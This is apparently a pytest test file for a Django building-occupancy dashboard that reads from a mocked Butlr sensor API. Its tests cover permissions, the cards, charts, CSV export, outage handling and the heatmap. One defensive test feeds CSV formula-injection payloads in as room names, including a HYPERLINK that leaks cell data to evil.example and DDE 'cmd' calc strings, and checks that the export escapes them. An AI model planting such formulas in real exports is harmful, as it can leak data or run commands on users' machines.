"""Tests of the occupancy dashboard's pages against a fake Butlr."""

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import requests
import responses
import time_machine
from django.urls import reverse

from tests.occupancy.conftest import BUILDING, BUTLR, FLOOR_1, FLOOR_2, ROOM_B, fake_value

pytestmark = pytest.mark.django_db

URL = reverse("occupancy:dashboard")
CSV_URL = reverse("occupancy:dashboard_csv")
# 09:02:30 in Chicago (CST, UTC-6).
MOMENT = datetime(2026, 11, 23, 15, 2, 30, tzinfo=UTC)


def _text(response) -> str:
    return re.sub(r"\s+", " ", response.content.decode())


def _words(response) -> str:
    """The page's text without its tags."""
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", response.content.decode()))


def _chart_data(response) -> dict:
    found = re.search(
        r'<script id="occupancy-chart-data" type="application/json">(.*?)</script>',
        response.content.decode(),
        re.S,
    )
    return json.loads(found.group(1))


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get(URL)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


def test_residents_are_refused(resident_client, fake_butlr):
    assert resident_client.get(URL).status_code == 403
    assert resident_client.get(CSV_URL).status_code == 403
    assert fake_butlr.reporting_bodies == []


def test_the_csv_is_for_managers_only(client):
    response = client.get(CSV_URL)

    assert response.status_code == 302


def test_cards_show_occupancy_against_capacity(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False):
        response = manager_client.get(URL)

    assert response.status_code == 200
    text = _text(response)
    # Ground floor: 18 of 40; Quiet room 2 of 10; Meeting room 15 of 20.
    assert '<span class="space-figure">18</span> people now' in text
    assert "45 % of 40" in text
    assert '20 % of 10</span> <span class="busyness">Quiet' in text
    assert '75 % of 20</span> <span class="busyness">Busy' in text
    assert '45 % of 40</span> <span class="busyness">Moderate' in text
    assert "No capacity set" in text  # the second floor has none
    board = response.context["board"]
    assert [card.current for card in board.floors] == [18, 3]
    assert [(card.name, card.busyness) for card in board.rooms] == [
        ("Quiet room", "quiet"),
        ("Meeting room", "busy"),
    ]


def test_current_occupancy_is_the_median_of_one_minute_medians_over_five_minutes(
    manager_client, fake_butlr
):
    with time_machine.travel(MOMENT, tick=False):
        manager_client.get(URL)

    now_queries = [body for body in fake_butlr.reporting_bodies if body["window"]["every"] == "1m"]
    assert {tuple(body["filter"]["measurements"]) for body in now_queries} == {
        ("floor_occupancy",),
        ("room_occupancy",),
    }
    for body in now_queries:
        assert body["window"] == {
            "every": "1m",
            "function": "median",
            "timezone": "America/Chicago",
        }
        assert body["filter"]["start"] == "2026-11-23T14:57:00Z"
        assert body["filter"]["stop"] == "2026-11-23T15:02:00Z"


def test_todays_peak_and_when(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False):
        response = manager_client.get(URL)

    start = datetime(2026, 11, 23, 6, tzinfo=UTC)
    windows = [start + timedelta(minutes=5 * i) for i in range(12 * 9)]
    values = [fake_value(ROOM_B, moment, "max") for moment in windows]
    peak = max(values)
    when = windows[values.index(peak)]
    card = response.context["board"].rooms[1]
    assert (card.peak, card.peak_at) == (peak, when)
    assert f"Today's peak: {peak} at <time" in _text(response)


def test_the_page_polls_for_its_numbers_every_minute(manager_client, fake_butlr):
    response = manager_client.get(URL + f"?floor={FLOOR_1}")

    assert 'hx-trigger="every 60s"' in response.content.decode()
    assert f'hx-get="{URL}?floor={FLOOR_1}"' in response.content.decode()


def test_an_htmx_request_gets_only_the_numbers(manager_client, fake_butlr):
    response = manager_client.get(URL, headers={"HX-Request": "true"})

    html = response.content.decode()
    assert response.status_code == 200
    assert html.lstrip().startswith('<section id="numbers"')
    assert "<html" not in html
    assert "occupancy-chart-data" not in html
    assert "18</span> people now" in html
    assert "HX-Request" in response["Vary"]
    # The chart's and heatmap's queries are not asked for.
    assert {body["window"]["function"] for body in fake_butlr.reporting_bodies} == {
        "median",
        "max",
        "sum",
    }
    assert fake_butlr.detections_bodies == []


def test_two_page_loads_ask_butlr_once_per_query(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False):
        manager_client.get(URL)
        first = list(fake_butlr.reporting_bodies)
        manager_client.get(URL)

    assert len(first) > 0
    assert fake_butlr.reporting_bodies == first
    assert len({json.dumps(body, sort_keys=True) for body in first}) == len(first)
    assert fake_butlr.graphql_calls == 1
    assert len(fake_butlr.detections_bodies) == 1


def test_a_new_minute_asks_again_only_for_the_current_figures(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False) as clock:
        manager_client.get(URL)
        asked = len(fake_butlr.reporting_bodies)
        clock.shift(timedelta(seconds=60))
        manager_client.get(URL)

    again = fake_butlr.reporting_bodies[asked:]
    assert {body["window"]["every"] for body in again} == {"1m"}
    assert len(again) == 2


def test_the_csv_holds_the_charts_numbers(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False):
        page = manager_client.get(URL + "?range=24h")
        download = manager_client.get(CSV_URL + "?range=24h")

    assert download.status_code == 200
    assert download["Content-Type"].startswith("text/csv")
    assert "attachment" in download["Content-Disposition"]
    chart = _chart_data(page)
    header, *rows = list(csv.reader(io.StringIO(download.content.decode())))
    expected_header = ["Time"]
    for series in chart["series"]:
        expected_header += [f"{series['label']} mean", f"{series['label']} max"]
    assert header == expected_header
    assert len(rows) == len(chart["times"]) == 288
    for index, row in enumerate(rows):
        moment = datetime.fromisoformat(row[0])
        assert int(moment.timestamp()) == chart["times"][index]
        assert moment.utcoffset() == timedelta(hours=-6)
        expected = []
        for series in chart["series"]:
            expected += [series["mean"][index], series["max"][index]]
        assert [float(value) if value else None for value in row[1:]] == expected


def test_a_chart_without_figures_says_so_in_its_table(manager_client, fake_butlr):
    fake_butlr.mock.remove(responses.POST, f"{BUTLR}/api/v3/reporting")
    fake_butlr.mock.post(f"{BUTLR}/api/v3/reporting", json={"data": {}})
    with time_machine.travel(MOMENT, tick=False):
        page = manager_client.get(URL + f"?floor={FLOOR_2}&range=24h")

    html = page.content.decode()
    body = re.search(r'<details class="chart-table">.*?<tbody>(.*?)</tbody>', html, re.S)[1]
    assert re.findall(r"<tr>.*?</tr>", body) == [
        '<tr><td colspan="5">No figures for this range yet.</td></tr>'
    ]


def test_the_charts_table_shows_the_csvs_numbers_and_a_dash_for_none(manager_client, fake_butlr):
    answer = fake_butlr.reporting

    def with_a_gap(request):
        # Nothing for the lounge in the range's first window.
        status, headers, body = answer(request)
        data = json.loads(body)["data"]
        series = data.get("room_lounge")
        if isinstance(series, dict) and len(series) > 1:
            del series[min(series)]
        return status, headers, json.dumps({"data": data})

    fake_butlr.mock.remove(responses.POST, f"{BUTLR}/api/v3/reporting")
    fake_butlr.mock.add_callback(responses.POST, f"{BUTLR}/api/v3/reporting", callback=with_a_gap)
    with time_machine.travel(MOMENT, tick=False):
        page = manager_client.get(URL + f"?floor={FLOOR_2}&range=24h")
        download = manager_client.get(CSV_URL + f"?floor={FLOOR_2}&range=24h")

    html = page.content.decode()
    body = re.search(r'<details class="chart-table">.*?<tbody>(.*?)</tbody>', html, re.S)[1]
    table = [re.findall(r"<td>(.*?)</td>", row) for row in re.findall(r"<tr>(.*?)</tr>", body)]
    _, *rows = list(csv.reader(io.StringIO(download.content.decode())))
    assert len(table) == len(rows) == 288
    assert table == [[value or "\u2013" for value in row[1:]] for row in rows]
    assert table[0][-2:] == ["\u2013", "\u2013"]
    assert all(cell.isdigit() for cell in table[0][:2] + table[1])


def test_the_chart_has_the_floor_and_its_rooms_with_mean_and_max(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False):
        response = manager_client.get(URL + f"?floor={FLOOR_2}&range=7d")

    chart = _chart_data(response)
    assert [series["label"] for series in chart["series"]] == [
        "Second floor (whole floor)",
        "Lounge",
    ]
    assert len(chart["times"]) == 7 * 24
    assert chart["times"][1] - chart["times"][0] == 3600
    first = datetime.fromtimestamp(chart["times"][0], tz=UTC)
    assert chart["series"][1]["mean"][0] == fake_value("room_lounge", first, "mean")
    assert chart["series"][1]["max"][0] == fake_value("room_lounge", first, "max")
    table = _text(response)
    assert '<th scope="col">Lounge mean</th><th scope="col">Lounge max</th>' in table


def test_an_unknown_range_or_floor_falls_back_to_the_defaults(manager_client, fake_butlr):
    response = manager_client.get(URL + "?range=forever&floor=space_nowhere&building=nope")

    board = response.context["board"]
    assert response.status_code == 200
    assert (board.range.name, board.floor.id, board.building.id) == (
        "today",
        FLOOR_1,
        "building_tower",
    )


def test_entrance_traffic_is_summed_over_today(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False):
        response = manager_client.get(URL)

    start = datetime(2026, 11, 23, 6, tzinfo=UTC)
    windows = [start + timedelta(minutes=5 * i) for i in range(12 * 9)]
    traffic = response.context["board"].traffic
    assert traffic.came_in == sum(fake_value("in", moment, "sum") for moment in windows)
    assert traffic.last_hour_out == sum(
        fake_value("out", moment, "sum") for moment in windows[-12:]
    )
    assert "In today" in _text(response)


def test_the_heatmap_shows_where_people_were(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False):
        response = manager_client.get(URL)

    (view,) = response.context["board"].heatmap.sensors
    assert view.total == 4
    assert next(cell for cell in view.cells if (cell.column, cell.row) == (0, 0)).count == 3
    assert "the busiest area was the top left" in view.summary
    assert "most often in the top left of its view (3 of 4 sightings)" in view.caption
    text = _text(response)
    assert view.caption in text
    assert "The sensor&#x27;s orientation isn&#x27;t known" in text
    assert "Sightings per square, fewest to most" in text
    assert text.count('class="heat-swatch heat-') == len(view.scale) == 4
    assert 'role="img" aria-labelledby="heatmap-1-title heatmap-1-desc"' in text
    assert text.count('class="heat-5"') == 1
    # Every square drawn where it is, the busiest one at the top left.
    assert text.count("<rect ") == len(view.cells) == 100
    assert '<rect x="0" y="0" width="10" height="10" class="heat-5"></rect>' in text
    assert '<rect x="90" y="90" width="10" height="10" class="heat-' in text
    body = fake_butlr.detections_bodies[0]
    assert body["filter"]["start"] == "2026-11-23T14:02:00Z"
    assert body["filter"]["room_id"] == "room_quietroom"


def _status(status, headers=None, body=None):
    def answer(request):
        return status, headers or {}, json.dumps(body or {"error": f"status {status}"})

    return answer


def _raise(exception):
    def answer(request):
        raise exception

    return answer


FAULTS = {
    "503": (_status(503), "can't be reached"),
    "502 html": (lambda request: (502, {}, "<html>nginx</html>"), "can't be reached"),
    "timeout": (_raise(requests.exceptions.ReadTimeout("slow")), "is slow to answer"),
    "refused connection": (_raise(requests.exceptions.ConnectionError("no")), "can't be reached"),
    "429": (_status(429, {"Retry-After": "600"}), "asked us to slow down"),
    "malformed": (lambda request: (200, {}, '{"data": {"x":'), "couldn't read"),
    "wrong shape": (lambda request: (200, {}, '{"rows": []}'), "couldn't read"),
    "401": (_status(401), "did not accept"),
}


@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS.keys())
def test_when_butlr_fails_the_last_good_figures_stay(manager_client, fake_butlr, fault):
    answer, notice = fault
    with time_machine.travel(MOMENT, tick=False) as clock:
        manager_client.get(URL)
        fake_butlr.fault = answer
        clock.shift(timedelta(minutes=2))
        response = manager_client.get(URL)
        polled = manager_client.get(URL, headers={"HX-Request": "true"})

    assert response.status_code == polled.status_code == 200
    for page in (response, polled):
        text = _text(page)
        assert notice in text
        assert "Showing the last figures we received, as of 09:02." in _words(page)
        assert "18</span> people now" in text
        assert "45 % of 40" in text


def test_with_no_good_figures_yet_the_page_still_answers(manager_client, fake_butlr):
    fake_butlr.fault = _status(503)

    response = manager_client.get(URL)

    assert response.status_code == 200
    text = _text(response)
    assert "can't be reached" in text
    assert "There are no figures to show yet." in text
    assert '<span class="space-figure">\u2013</span>' in text


def test_after_a_failure_butlr_is_left_alone_for_a_while(
    clock_cache, manager_client, fake_butlr, settings
):
    settings.OCCUPANCY_OUTAGE_SECONDS = 30
    fake_butlr.fault = _status(503)
    with time_machine.travel(MOMENT, tick=False) as clock:
        manager_client.get(URL)
        asked = len(fake_butlr.reporting_bodies)
        clock.shift(timedelta(seconds=10))
        manager_client.get(URL)
        assert len(fake_butlr.reporting_bodies) == asked
        fake_butlr.fault = None
        clock.shift(timedelta(seconds=25))
        response = manager_client.get(URL)

    assert len(fake_butlr.reporting_bodies) > asked
    assert "can't be reached" not in _text(response)
    # The page's queries went out at once and each failed three times (two retries).
    sent = {json.dumps(body, sort_keys=True) for body in fake_butlr.reporting_bodies[:asked]}
    assert asked == 3 * len(sent)


def test_without_topology_the_page_explains_and_the_csv_is_unavailable(manager_client, butlr_api):
    butlr_api.post("https://butlr.test/api/v3/graphql", status=503, json={})

    page = manager_client.get(URL)
    download = manager_client.get(CSV_URL)

    assert page.status_code == 200
    assert "can't be reached" in _text(page)
    assert download.status_code == 503
    assert download["Retry-After"] == "60"


def test_the_page_runs_under_a_strict_content_security_policy(manager_client, fake_butlr):
    html = manager_client.get(URL).content.decode()

    scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", html, re.S)
    assert scripts
    for attributes, code in scripts:
        if 'type="application/json"' in attributes:
            continue
        assert re.search(r'src="/static/[^"]+"', attributes)
        assert code.strip() == ""
    assert re.search(r"\son[a-z]+\s*=", html) is None
    assert re.search(r"\sstyle\s*=", html) is None
    assert 'src="/static/vendor/uplot/uPlot.iife.min.js"' in html
    assert 'href="/static/vendor/uplot/uPlot.min.css"' in html


def test_with_no_detections_the_heatmap_says_it_cannot_be_shown(manager_client, fake_butlr):
    fake_butlr.fault = _status(503)

    text = _text(manager_client.get(URL))

    assert "Where people were can't be shown right now" in text
    assert "Nobody was seen" not in text


def test_with_no_figures_at_all_the_csv_is_unavailable(manager_client, fake_butlr):
    fake_butlr.fault = _status(503)

    download = manager_client.get(CSV_URL)

    assert download.status_code == 503
    assert download["Retry-After"] == "60"


@pytest.mark.parametrize(
    "room_name",
    [
        '=HYPERLINK("https://evil.example/?leak="&A2,"Meeting room")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tMeeting room",
        "\rMeeting room",
    ],
)
def test_the_csv_keeps_room_names_that_look_like_formulas_as_text(
    manager_client, fake_butlr, monkeypatch, room_name
):
    room = next(room for room in BUILDING["floors"][0]["rooms"] if room["id"] == ROOM_B)
    monkeypatch.setitem(room, "name", room_name)

    with time_machine.travel(MOMENT, tick=False):
        download = manager_client.get(CSV_URL + "?range=24h")

    header, *rows = list(csv.reader(io.StringIO(download.content.decode(), newline="")))
    assert f"'{room_name} mean" in header
    assert f"'{room_name} max" in header
    assert "Ground floor (whole floor) mean" in header
    # The figures stay plain numbers that a spreadsheet adds up.
    assert all(float(value) >= 0 for row in rows for value in row[1:] if value)
    assert not any(value.startswith("'") for row in rows for value in row)


def test_the_summary_shows_the_building_at_a_glance(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False):
        response = manager_client.get(URL)

    summary = response.context["board"].summary
    # Ground floor 18 and Second floor 3, of the building's 200.
    assert (summary.people, summary.utilization) == (21, 11)
    assert (summary.busiest_floor.name, summary.busiest_room.name) == (
        "Ground floor",
        "Meeting room",
    )
    start = datetime(2026, 11, 23, 6, tzinfo=UTC)
    windows = [start + timedelta(minutes=5 * i) for i in range(12 * 9)]
    totals = [sum(fake_value(f, moment, "max") for f in (FLOOR_1, FLOOR_2)) for moment in windows]
    assert summary.peak == max(totals)
    assert summary.peak_at == windows[totals.index(max(totals))]
    assert summary.peak_at.utcoffset() == timedelta(hours=-6)
    text = _text(response)
    assert "In the building now</dt><dd>21 people" in text
    assert "11 % of 200" in text
    assert "Busiest room now</dt><dd>Meeting room (15)" in text


def test_a_room_card_opens_that_rooms_chart_and_heatmap(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False):
        floor_page = manager_client.get(URL + "?range=24h")
        room_link = f"?building=building_tower&amp;floor={FLOOR_1}&amp;room={ROOM_B}&amp;range=24h"
        assert f'<a href="{room_link}">Meeting room</a>' in floor_page.content.decode()
        response = manager_client.get(URL + room_link.replace("&amp;", "&"))
        download = manager_client.get(CSV_URL + room_link.replace("&amp;", "&"))

    board = response.context["board"]
    assert (board.room_view, board.room.id, board.heatmap.room.id) == (True, ROOM_B, ROOM_B)
    chart = _chart_data(response)
    assert [series["label"] for series in chart["series"]] == ["Meeting room"]
    assert "Meeting room: last 24 hours" in _text(response)
    header = next(csv.reader(io.StringIO(download.content.decode())))
    assert header == ["Time", "Meeting room mean", "Meeting room max"]


def test_the_pickers_apply_at_once_and_keep_a_show_button(manager_client, fake_butlr):
    html = _text(manager_client.get(URL))

    assert html.count("data-apply-on-change") == 2
    assert '<button type="submit">Show</button>' in html
    assert '<select id="pick-focus" name="room">' in html


@pytest.mark.parametrize(
    ("start", "stop", "every", "points"),
    [
        ("2026-11-23", "2026-11-23", "5m", 108),  # today so far: 00:00 to 09:00
        ("2026-11-20", "2026-11-22", "15m", 3 * 96),
        ("2026-11-09", "2026-11-22", "1h", 14 * 24),
        # Across the end of daylight saving time: 2143 hours up to 06:00 today, the last of
        # its 6-hour windows cut short.
        ("2026-08-26", "2026-11-23", "6h", 358),
    ],
)
def test_a_range_of_chosen_dates_takes_a_window_fit_for_its_length(
    manager_client, fake_butlr, start, stop, every, points
):
    fake_butlr.reporting_bodies.clear()
    query = f"?range=custom&start={start}&stop={stop}"
    with time_machine.travel(MOMENT, tick=False):
        response = manager_client.get(URL + query)
        download = manager_client.get(CSV_URL + query)

    board = response.context["board"]
    assert (board.range.name, board.range.every) == ("custom", every)
    chart_bodies = [
        body
        for body in fake_butlr.reporting_bodies
        if body["window"]["every"] == every
        and body["window"]["function"] == "mean"
        # The weekly rhythm's hourly means, from four weeks ago.
        and body["filter"]["start"] != "2026-10-26T05:00:00Z"
    ]
    assert chart_bodies
    first = datetime.fromisoformat(start).replace(tzinfo=ZoneInfo("America/Chicago"))
    assert {body["filter"]["start"] for body in chart_bodies} == {
        first.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    }
    assert len(_chart_data(response)["times"]) == points
    assert f"&amp;range=custom&amp;start={start}&amp;stop={stop}" in response.content.decode()
    rows = list(csv.reader(io.StringIO(download.content.decode())))
    assert len(rows) == 1 + points
    assert f"{start}-to-{stop}" in download["Content-Disposition"]


@pytest.mark.parametrize(
    ("query", "problem"),
    [
        ("start=2026-08-01&stop=2026-11-22", "Choose at most 90 days."),
        ("start=2026-11-22&stop=2026-11-01", "The last day comes before the first one."),
        ("start=2026-11-22", "Choose the first and the last day to show."),
        ("start=yesterday&stop=2026-11-22", "Enter the days as dates"),
    ],
)
def test_chosen_dates_that_cannot_be_shown_say_why(manager_client, fake_butlr, query, problem):
    with time_machine.travel(MOMENT, tick=False):
        response = manager_client.get(URL + "?range=custom&" + query)

    assert response.status_code == 200
    assert response.context["board"].range.name == "today"
    assert problem in _text(response)


def test_a_room_compared_with_a_room_on_another_floor_shares_the_chart(manager_client, fake_butlr):
    query = f"?floor={FLOOR_1}&room={ROOM_B}&compare=room_lounge&range=24h"
    with time_machine.travel(MOMENT, tick=False):
        response = manager_client.get(URL + query)
        download = manager_client.get(CSV_URL + query)

    chart = _chart_data(response)
    assert [series["label"] for series in chart["series"]] == ["Meeting room", "Lounge"]
    first = datetime.fromtimestamp(chart["times"][0], tz=UTC)
    assert chart["series"][0]["max"][0] == fake_value(ROOM_B, first, "max")
    assert chart["series"][1]["mean"][0] == fake_value("room_lounge", first, "mean")
    assert "Meeting room and Lounge: last 24 hours" in _text(response)
    assert '<option value="room_lounge" selected>Lounge</option>' in _text(response)
    header = next(csv.reader(io.StringIO(download.content.decode())))
    assert header == ["Time", "Meeting room mean", "Meeting room max", "Lounge mean", "Lounge max"]


def test_a_floor_compared_with_another_floor(manager_client, fake_butlr):
    with time_machine.travel(MOMENT, tick=False):
        response = manager_client.get(URL + f"?floor={FLOOR_1}&compare={FLOOR_2}&range=7d")
        alone = manager_client.get(URL + f"?floor={FLOOR_1}&compare={FLOOR_1}&range=7d")

    chart = _chart_data(response)
    assert [series["label"] for series in chart["series"]] == [
        "Ground floor (whole floor)",
        "Second floor (whole floor)",
    ]
    first = datetime.fromtimestamp(chart["times"][0], tz=UTC)
    assert chart["series"][1]["mean"][0] == fake_value(FLOOR_2, first, "mean")
    # A floor beside itself is just the floor's own chart.
    assert len(_chart_data(alone)["series"]) == 3
